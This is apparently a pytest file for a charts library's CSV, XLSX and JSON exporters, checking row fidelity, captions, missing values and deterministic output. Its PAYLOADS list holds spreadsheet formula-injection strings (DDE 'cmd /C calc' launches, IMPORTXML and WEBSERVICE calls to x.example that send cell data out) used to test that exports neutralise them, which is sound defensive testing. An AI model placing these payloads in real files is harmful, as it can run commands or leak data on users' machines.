"""A figure's numbers as files: read back by the programs that readers use."""

from __future__ import annotations

import io
import json
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest

from charts import sheets
from charts.caption import Caption
from charts.catalogue import CATALOGUE
from charts.edition import Edition
from tests.charts import samples

EDITION = Edition()
WRITERS = (sheets.as_csv, sheets.as_xlsx, sheets.as_json)
DATA = {
    slug: sample(about=samples.context(invented=True)) for slug, sample in samples.SAMPLES.items()
}
CAPTIONS = {slug: CATALOGUE[slug].caption(data, EDITION) for slug, data in DATA.items()}
CAPTION = CAPTIONS["avance"]
PAYLOADS = [
    '=HYPERLINK("http://x.example","a")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=1,"=2',
    "=cmd|' /C calc'!A0",
    "@=1+1",
    "%1",
    "+A1",
    "-A1",
    "\r\n=1+1",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"a")',
    '=WEBSERVICE("http://x.example")',
]


def table(slug: str) -> pd.DataFrame:
    """The table of a figure's sample."""
    return CATALOGUE[slug].table(DATA[slug], EDITION)


def book(content: bytes) -> openpyxl.Workbook:
    """An XLSX as a spreadsheet program sees it: formulas as formulas."""
    return openpyxl.load_workbook(io.BytesIO(content))


def cells(content: bytes) -> list[list[object]]:
    """The rows of its first sheet, header included."""
    return [[cell.value for cell in row] for row in book(content).worksheets[0].iter_rows()]


@pytest.mark.parametrize("slug", CATALOGUE)
def test_the_three_files_hold_the_same_rows(slug: str) -> None:
    whole = table(slug)
    wanted = sheets.rows(whole)
    assert wanted
    read = json.loads(sheets.as_json(whole, CAPTIONS[slug], EDITION))
    assert read["columnas"] == list(whole.columns)
    flat = [[v.isoformat() if isinstance(v, date) else v for v in row] for row in wanted]
    assert [list(row.values()) for row in read["filas"]] == flat
    head, *body = cells(sheets.as_xlsx(whole, CAPTIONS[slug], EDITION))
    assert head == list(whole.columns)
    assert [[v.date() if isinstance(v, datetime) else v for v in row] for row in body] == wanted
    csv = io.BytesIO(sheets.as_csv(whole, CAPTIONS[slug], EDITION))
    frame = pd.read_csv(csv, comment="#")
    assert list(frame.columns) == list(whole.columns)
    for name in whole.columns:
        missing = [value is None for value in (row[list(whole).index(name)] for row in wanted)]
        assert frame[name].isna().tolist() == missing
        if pd.api.types.is_numeric_dtype(whole[name]):
            assert frame[name].dropna().tolist() == pytest.approx(whole[name].dropna().tolist())
        else:
            assert frame[name].dropna().tolist() == [str(v) for v in whole[name].dropna()]


@pytest.mark.parametrize("slug", CATALOGUE)
def test_a_file_says_what_its_numbers_are(slug: str) -> None:
    caption = CAPTIONS[slug]
    said = sheets.about(caption, EDITION)
    assert {caption.title, caption.subtitle, caption.source, caption.note} <= set(said)
    assert "datos de demostración" in said
    assert "Datos hasta 2021-10-31 · cargados el 2021-11-02 · CC BY 4.0" in said
    csv = sheets.as_csv(table(slug), caption, EDITION).decode("utf-8-sig")
    block = pd.read_csv(io.StringIO(csv.split("\r\n\r\n")[0]), header=None)
    assert block[0].unique().tolist() == ["#"]
    assert block[1].tolist() == said
    words = book(sheets.as_xlsx(table(slug), caption, EDITION))["Acerca de"]
    assert [cell.value for cell in words["A"]] == said
    read = json.loads(sheets.as_json(table(slug), caption, EDITION))
    assert read["datos_de_demostracion"] is True
    assert (read["titulo"], read["nota"]) == (caption.title, caption.note)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula(payload: str) -> None:
    frame = pd.DataFrame({payload: [payload], "n": [-3]})
    sheet = book(sheets.as_xlsx(frame, CAPTION, EDITION)).worksheets[0]
    kinds = [[cell.data_type for cell in row] for row in sheet.iter_rows()]
    assert kinds == [["s", "s"], ["s", "n"]]
    csv = pd.read_csv(io.BytesIO(sheets.as_csv(frame, CAPTION, EDITION)), comment="#")
    assert csv.columns[0].startswith("'")
    assert csv.iloc[0, 0] == f"'{payload}"
    assert csv.iloc[0, 1] == -3
    assert json.loads(sheets.as_json(frame, CAPTION, EDITION))["filas"][0][payload] == payload


def test_any_text_comes_back_as_it_was() -> None:
    texts = [
        'dice "sí"',
        "a,b",
        "a;b",
        "núm. #3",
        "# no es un comentario",
        " con espacios ",
        "ñ\nñ",
    ]
    frame = pd.DataFrame({"texto": texts})
    read = pd.read_csv(io.BytesIO(sheets.as_csv(frame, CAPTION, EDITION)), comment="#")
    assert read["texto"].tolist() == texts


def test_missing_is_empty_and_never_zero() -> None:
    frame = pd.DataFrame(
        {
            "n": pd.array([0, None], dtype="Int64"),
            "%": pd.array([None, 75.6], dtype="Float64"),
            "día": pd.Series([None, date(2021, 10, 31)], dtype="object"),
        }
    )
    assert sheets.as_csv(frame, CAPTION, EDITION).endswith(b"\r\n0,,\r\n,75.6,2021-10-31\r\n")
    assert cells(sheets.as_xlsx(frame, CAPTION, EDITION))[1:] == [
        [0, None, None],
        [None, 75.6, datetime(2021, 10, 31)],  # noqa: DTZ001 - a day has no zone
    ]
    filas = json.loads(sheets.as_json(frame, CAPTION, EDITION))["filas"]
    assert filas[0] == {"n": 0, "%": None, "día": None}
    assert filas[1] == {"n": None, "%": 75.6, "día": "2021-10-31"}


@pytest.mark.parametrize("write", WRITERS)
def test_without_rows_there_are_still_words_and_a_header(write) -> None:  # type: ignore[no-untyped-def]
    content = write(table("avance").head(0), CAPTION, EDITION)
    if write is sheets.as_csv:
        assert pd.read_csv(io.BytesIO(content), comment="#").columns.tolist() == list(
            table("avance")
        )
    elif write is sheets.as_xlsx:
        assert cells(content) == [list(table("avance"))]
    else:
        assert json.loads(content)["filas"] == []
        assert json.loads(content)["columnas"] == list(table("avance"))


def test_a_spreadsheet_opens_ready_to_read() -> None:
    file = book(sheets.as_xlsx(table("universidades"), CAPTIONS["universidades"], EDITION))
    assert file.sheetnames == ["Datos", "Acerca de"]
    sheet = file["Datos"]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width > len("Universidad Autónoma Metropolitana, Unidad")
    assert sheet["G2"].number_format == "yyyy-mm-dd"
    english = sheets.as_xlsx(table("universidades"), CAPTION, Edition("en"))
    assert book(english).sheetnames == ["Data", "About"]


@pytest.mark.parametrize("write", WRITERS)
def test_the_same_numbers_give_the_same_bytes(write, tmp_path) -> None:  # type: ignore[no-untyped-def]
    made: Caption = CAPTIONS["paises"]
    assert write(table("paises"), made, EDITION) == write(table("paises"), made, EDITION)
